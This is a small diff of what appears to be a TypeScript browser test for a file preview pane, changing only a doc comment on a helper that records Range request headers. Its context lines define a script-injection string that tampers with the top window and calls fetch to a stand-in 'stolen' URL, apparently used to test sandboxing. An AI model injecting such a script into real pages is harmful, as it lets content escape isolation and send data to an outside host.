@@ -8,7 +8,7 @@ import { pane, shared, show } from '../acts/preview-acts.ts';
 const MIB = 1024 * 1024;
 const HACK = "window.top.__hacked = true; fetch('https://example.com/stolen')";
 
-/** The returned list receives the `Range` header of each later preview request. */
+/** Records ranges. The returned list receives the `Range` header of each later preview request. */
 function recordRanges(page: Page): (string | undefined)[] {
   const ranges: (string | undefined)[] = [];
   page.on('request', (request) => {
